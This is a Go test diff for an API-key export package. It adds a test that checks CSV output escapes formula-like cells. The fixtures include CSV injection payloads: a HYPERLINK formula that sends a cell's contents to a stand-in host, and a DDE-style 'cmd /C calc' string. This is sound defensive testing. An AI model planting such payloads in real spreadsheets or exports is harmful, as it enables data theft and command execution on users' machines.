@@ -2,6 +2,7 @@ package export
 
 import (
 	"bytes"
+	"encoding/csv"
 	"errors"
 	"os"
 	"path/filepath"
@@ -77,7 +78,7 @@ func TestWrite(t *testing.T) {
 		got, _ := os.ReadFile(path)
 		var want bytes.Buffer
 		if f == CSV {
-			_ = model.WriteKeysCSV(&want, keys(), now)
+			_ = model.WriteKeysCSV(&want, keys(), now) // no formula-like cell: the same bytes
 		} else {
 			_ = model.WriteKeysJSON(&want, keys(), now)
 		}
@@ -151,4 +152,56 @@ func TestDialog(t *testing.T) {
 	if h := lipgloss.Height(m.View()); h > 24 {
 		t.Errorf("dialog is %d lines in 24", h)
 	}
+}
+
+// TestWriteCSVFormulas: a key name (or any cell) that a spreadsheet would
+// run as a formula is written as text; JSON keeps it as it is.
+func TestWriteCSVFormulas(t *testing.T) {
+	evil := []model.APIKey{
+		{ID: "k1", Username: "alice", Name: `=HYPERLINK("http://x.example/?"&A1,"open")`, Hint: "abcd", Created: now, IsActive: true, IsGlobal: true},
+		{ID: "k2", Username: "@admin", Name: "@SUM(1+1)*cmd|' /C calc'!A0", Hint: "wxyz", Created: now, IsActive: true,
+			CollectionID: "c1", CollectionName: "+Docs"},
+		{ID: "-k3", Username: "bob", Name: "\tTabbed", Hint: "efgh", Created: now, IsActive: true, IsGlobal: true},
+	}
+	dir := t.TempDir()
+	path := filepath.Join(dir, "keys.csv")
+	if err := Write(path, CSV, evil, now, false); err != nil {
+		t.Fatal(err)
+	}
+	f, _ := os.Open(path)
+	defer f.Close()
+	rows, err := csv.NewReader(f).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rows) != 1+len(evil) {
+		t.Fatalf("%d rows", len(rows))
+	}
+	for _, row := range rows[1:] {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("cell %q would run as a formula", cell)
+			}
+		}
+	}
+	for _, want := range []string{`'=HYPERLINK(`, `'@SUM(1+1)`, `'@admin`, `'+Docs`, `'-k3`} {
+		if !strings.Contains(strings.Join(flatten(rows), "\n"), want) {
+			t.Errorf("no cell starting %q in %q", want, rows)
+		}
+	}
+	jpath := filepath.Join(dir, "keys.json")
+	if err := Write(jpath, JSON, evil, now, false); err != nil {
+		t.Fatal(err)
+	}
+	if j, _ := os.ReadFile(jpath); !bytes.Contains(j, []byte(`"name": "=HYPERLINK(`)) {
+		t.Errorf("JSON changed the name:\n%s", j)
+	}
+}
+
+func flatten(rows [][]string) []string {
+	var out []string
+	for _, r := range rows {
+		out = append(out, r...)
+	}
+	return out
 }
